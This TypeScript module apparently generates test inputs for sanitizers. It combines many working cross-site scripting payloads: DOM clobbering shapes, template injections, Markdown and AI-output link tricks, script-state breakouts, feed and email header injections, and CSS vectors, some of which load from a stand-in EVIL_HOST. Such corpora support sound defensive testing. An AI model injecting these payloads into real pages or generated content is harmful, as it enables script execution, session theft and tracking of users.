import { CALL, combineAll, EVIL_HOST } from "./xss-common.ts";
import { schemes } from "./xss-tags.ts";

/** DOM clobbering: element names that page scripts look up. */
export const clobbering = combineAll(
  "attributes body children cookie currentScript defaultView documentElement domain firstChild forms getElementById head history innerHTML links location nodeName parentNode querySelector referrer scripts title $_TSR __TSR__ dehydrated trpc toast session".split(
    " ",
  ),
  [
    (name: string) => `<img name=${name} src=x>`,
    (name: string) => `<form id=${name}><input name=${name}></form>`,
    (name: string) => `<a id=${name}></a><a id=${name} name=x href="cid:javascript:${CALL}">x</a>`,
    (name: string) => `<p id="${name}" class="${name}" data-reactroot>x</p>`,
  ],
  (name, shape) => shape(name),
);

export const templates = combineAll(
  [
    `{{constructor.constructor('${CALL}')()}}`,
    `\${${CALL}}`,
    `#{${CALL}}`,
    `<%= ${CALL} %>`,
    `{%raw%}<script>${CALL}</script>{%endraw%}`,
    `[[${CALL}]]`,
    `{{{${CALL}}}}`,
    `<div v-html="'<img src=x onerror=${CALL}>'">`,
    `<div ng-app ng-init=${CALL}>`,
    `<div x-init="${CALL}" x-data>`,
    `<div hx-on:load="${CALL}" hx-trigger=load>`,
    `<div data-bind="html:'<img src=x onerror=${CALL}>'">`,
  ],
  [
    (inner: string) => inner,
    (inner: string) => `<template>${inner}</template>`,
    (inner: string) =>
      `<template shadowrootmode=open>${inner}<img src=x onerror=${CALL}></template>`,
    (inner: string) => `<noscript>${inner}</noscript><img src=x onerror=${CALL}>`,
    (inner: string) => `<p title="${inner.replaceAll('"', "&quot;")}">x</p>`,
  ],
  (inner, frame) => frame(inner),
);

/** Markdown, as an AI service may return it. */
export const markdown = [
  ...schemes.flatMap((to) => [
    `[x](${to})`,
    `[x](<${to}>)`,
    `![x](${to})`,
    `<${to}>`,
    `[x][1]\n\n[1]: ${to}`,
    `[x](${to} "t")`,
  ]),
  `![x](x"onerror="${CALL})`,
  `[x](https://x "onmouseover=${CALL}")`,
  `\`\`\`html\n<script>${CALL}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${CALL}>\nx\n\`\`\``,
  `<details open ontoggle=${CALL}>\n\n**x**\n\n</details>`,
  `> <script>${CALL}</script>`,
  `- <img src=x onerror=${CALL}>`,
  `| <svg onload=${CALL}> | x |\n|---|---|\n| <img src=x onerror=${CALL}> | y |`,
  `# <img src=x onerror=${CALL}>`,
  `<https://x" onclick=${CALL} x=">`,
  `[<img src=x onerror=${CALL}>](https://x)`,
  `**<script>${CALL}</script>**`,
];

/** Breaks out of the script or attribute that carries the page's state. */
export const jsonState = combineAll(
  [`<script>${CALL}</script>`, `<img src=x onerror=${CALL}>`, `;${CALL};`, `-${CALL}-`],
  [
    "</script>",
    "</SCRIPT >",
    "<!--<script>",
    '"}]}</script>',
    "\\",
    '\\"',
    "\u2028",
    "\u2029",
    "'",
    '"',
    "`",
    "*/",
    "//",
    "${",
    "\\u003c/script\\u003e",
    "]]>",
  ],
  (payload, way) => `${way}${payload}`,
);

export const feeds = combineAll(
  [
    `<script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`,
    `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="${CALL}"/>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${CALL}"/>`,
    `<?xml-stylesheet href="javascript:${CALL}"?>`,
    `<xsl:script xmlns:xsl="http://www.w3.org/1999/XSL/Transform">${CALL}</xsl:script>`,
  ],
  ["", "]]>", "</title>", "</content></entry>", "--><!--", "</summary>"],
  (payload, way) => `${way}${payload}`,
);

export const mail = [
  `x\r\nContent-Type: text/html\r\n\r\n<script>${CALL}</script>`,
  `=?utf-8?b?PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==?=`,
  `=3Cscript=3E${CALL}=3C/script=3E`,
  `<a href="mailto:x?body=<script>${CALL}</script>">x</a>`,
  `<style>*{background:url(${EVIL_HOST})}</style>`,
  `<img src="${EVIL_HOST}/pixel.gif">`,
  `<link rel=prefetch href=${EVIL_HOST}>`,
  `cid:<script>${CALL}</script>`,
];

export const styles = combineAll(
  [
    `url(javascript:${CALL})`,
    `url(${EVIL_HOST}/x)`,
    `expression(${CALL})`,
    `url("data:text/html,x")`,
  ],
  [
    (value: string) => `<p style="background:${value}">x</p>`,
    (value: string) => `<style>p{background:${value}}</style>`,
    (value: string) => `<p style="behavior:${value};-moz-binding:${value}">x</p>`,
    (value: string) => `<link rel=stylesheet href="data:text/css,*{background:${value}}">`,
    (value: string) => `<p style='list-style:${value.replaceAll('"', "")}'>x</p>`,
  ],
  (value, shape) => shape(value),
);
